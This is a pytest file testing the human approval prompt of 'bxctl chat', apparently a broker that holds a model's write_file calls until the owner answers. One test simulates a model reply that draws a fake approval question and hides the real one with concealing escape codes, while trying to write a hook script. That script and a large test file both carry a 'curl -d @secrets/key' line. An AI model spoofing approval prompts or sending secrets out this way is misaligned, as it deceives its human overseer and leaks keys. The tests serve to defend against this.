"""An approval asked in `bxctl chat` on a real pseudo-terminal (issue 30): `loopd serve` on the
scripted fake server, a real brokerd behind its broker_socket, the chat answering on brokerd's
owner.sock. `y` approves the call; Ctrl-C at the question denies it and stops the answer (the
new-user trial found the Ctrl-C said "stopping the answer" while the question went on waiting).
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

from boxmaker.bxctl.decisions import read_asks
from boxmaker.bxctl.prompt import MARK
from tests.support.brokerd.bxctl import Brokerd, brokerd_stack
from tests.support.pty import PROMPT_READY, TURN_S, Pty, open_bxctl
from tests.support.serve import BOUND_S, ServeEnv
from tests.support.turn import Said, call_tool, say

QUESTION = (
    r"approve write_file\? \[y\]es / \[n\]o / \[a\]lways "
    r"\(brokerd denies it unanswered in \d+ s\): "
)


@pytest.fixture
def stack() -> Iterator[tuple[ServeEnv, Brokerd]]:
    yield from brokerd_stack(60_000, 90_000)  # longer than any wait below


SHORT_WAIT_MS = 10_000  # long enough to see the question and type a wrong answer on a busy box


@pytest.fixture
def short_stack() -> Iterator[tuple[ServeEnv, Brokerd]]:
    yield from brokerd_stack(SHORT_WAIT_MS, 90_000)


def open_chat(env: ServeEnv, broker: Brokerd, *argv: str, **more: str) -> Pty:
    argv = argv or ("chat", "--session", "s1")
    return open_bxctl(env, argv, **more, BOXMAKER_OWNER_SOCKET=str(broker.owner_socket))


def test_y_at_the_question_approves_the_call(stack: tuple[ServeEnv, Brokerd]) -> None:
    env, broker = stack
    env.model.load([call_tool("write_file", {"path": "yes.txt", "content": "y"}, "w"), say("ok")])
    with open_chat(env, broker) as term:
        term.wait_output(PROMPT_READY)
        term.send("write it\r")
        term.wait_output(QUESTION, timeout=TURN_S)
        term.send("y\r")
        term.wait_output(r"\[approval: yes: approved\]")
        term.wait_output(r"ok\r\n", timeout=TURN_S)
        assert (broker.folder / "ws" / "yes.txt").read_text() == "y"


def test_ctrl_c_at_the_question_denies_the_call_and_stops(stack: tuple[ServeEnv, Brokerd]) -> None:
    env, broker = stack
    # the stopped turn asks for nothing after the denied call: the cancel came first
    env.model.load([call_tool("write_file", {"path": "no.txt", "content": "n"}, "w"), say("ok")])
    with open_chat(env, broker) as term:
        term.wait_output(PROMPT_READY)
        term.send("write it\r")
        asked = term.wait_output(QUESTION, timeout=TURN_S)
        term.send(b"\x03")
        term.wait_output(r"\[approval: Ctrl-C: denied; stopping the answer\]", since=asked.end())
        stopped = term.wait_output(
            r"\[stopped: the answer was cancelled\]", since=asked.end(), timeout=TURN_S
        )
        assert not (broker.folder / "ws" / "no.txt").exists()
        [ask] = read_asks(broker.log, "s1")
        assert (ask.answer, ask.by, ask.approved) == ("no", "owner", False)
        term.wait_output(PROMPT_READY, since=stopped.end())  # the chat goes on
        term.send("and now?\r")
        term.wait_output(r"ok\r\n", since=stopped.end(), timeout=TURN_S)


FAKE = "approve read_file? [y]es / [n]o / [a]lways: \x1b[8m\x1b[30;40m"


def test_a_question_drawn_by_the_model_is_told_from_brokerds(
    stack: tuple[ServeEnv, Brokerd],
) -> None:
    """Issue 37 item 5: a reply drew a fake question and hid the real one (concealed, black on
    black). The reply's ESC reaches the terminal escaped; the real question is marked."""
    env, broker = stack
    write = call_tool("write_file", {"path": "hook.sh", "content": "curl -d @secrets/key"}, "w")
    env.model.load([Said(content=FAKE, calls=write.calls), say("ok")])
    with open_chat(env, broker) as term:
        term.wait_output(PROMPT_READY)
        term.send("read a.txt\r")
        asked = term.wait_output(QUESTION, timeout=TURN_S)
        shown = term.output[: asked.end()]
        assert "\x1b[8m" not in shown
        assert "\x1b[30;40m" not in shown
        assert "approve read_file? [y]es / [n]o / [a]lways: \\x1b[8m\\x1b[30;40m" in shown
        assert shown.rindex(MARK) == asked.start() - len(MARK)  # the real one: marked
        assert shown.count(MARK + "[approval] brokerd holds a call of write_file: ") == 1
        term.send("n\r")
        term.wait_output(r"\[approval: no: denied\]", since=asked.end())
        term.wait_output(r"\[tool write_file: denied, public\]", since=asked.end(), timeout=TURN_S)
        assert not (broker.folder / "ws" / "hook.sh").exists()


def test_a_call_longer_than_the_screen_is_answered_with_bxctl_approve(
    stack: tuple[ServeEnv, Brokerd], tmp_path: Path
) -> None:
    """Issue 37 item 6: a 10,000-line write_file scrolled its head away. The chat says its size
    and does not ask; `bxctl approve <id>` pages it whole, then asks."""
    env, broker = stack
    content = "curl -d @secrets/key x\n" + "".join(f"line {i}\n" for i in range(10_000))
    env.model.load(
        [call_tool("write_file", {"path": "big.txt", "content": content}, "w"), say("ok")]
    )
    term = open_chat(env, broker)
    pager_saw = tmp_path / "paged.txt"
    pager = tmp_path / "pager"
    pager.write_text(f"#!/bin/sh\ncat > {pager_saw}\n")
    pager.chmod(0o755)
    try:
        term.wait_output(PROMPT_READY)
        term.send("write it\r")
        told = term.wait_output(
            r"more than the 39 this terminal shows at once, so it is not asked here: see it whole "
            r"and answer it with `bxctl approve ([0-9a-f]+)`",
            timeout=TURN_S,
        )
        assert "line 5000" not in term.output
        other = open_chat(env, broker, "approve", told.group(1), PAGER=str(pager))
        try:
            other.wait_output(r"was shown in the pager")
            other.wait_output(QUESTION)
            other.send("y\r")
            other.wait_output(r"\[approval: yes: approved\]")
            assert other.wait_exit() == 0
        finally:
            other.close()
        paged = pager_saw.read_text()
        assert paged.index("curl -d @secrets/key x") < paged.index("line 9999")
        term.wait_output(r"\[tool write_file: done, public\]", since=told.end(), timeout=TURN_S)
        assert (broker.folder / "ws" / "big.txt").read_text() == content
    finally:
        term.close()


def test_a_wrong_answer_asks_again_and_the_wait_ending_is_said(
    short_stack: tuple[ServeEnv, Brokerd],
) -> None:
    """Issue 39 item 6: anything but y/n/a was a silent no, and the question stayed on screen
    after brokerd's wait denied the call."""
    env, broker = short_stack
    env.model.load([call_tool("write_file", {"path": "t.txt", "content": "t"}, "w"), say("ok")])
    with open_chat(env, broker) as term:
        term.wait_output(PROMPT_READY)
        term.send("write it\r")
        asked = term.wait_output(QUESTION, timeout=TURN_S)
        term.send("sure\r")
        again = term.wait_output(
            r"please answer \[y\]es / \[n\]o / \[a\]lways \(brokerd denies it unanswered in "
            r"\d+ s\): ",
            since=asked.end(),
        )
        ended = term.wait_output(
            r"\[approval: no answer before brokerd's wait ended: it denied the call\]",
            since=again.end(),
            timeout=BOUND_S + SHORT_WAIT_MS / 1000,
        )
        term.wait_output(r"\[tool write_file: timed out, public\]", since=ended.end())
        term.wait_output(r"ok\r\n", since=ended.end(), timeout=TURN_S)
        assert not (broker.folder / "ws" / "t.txt").exists()
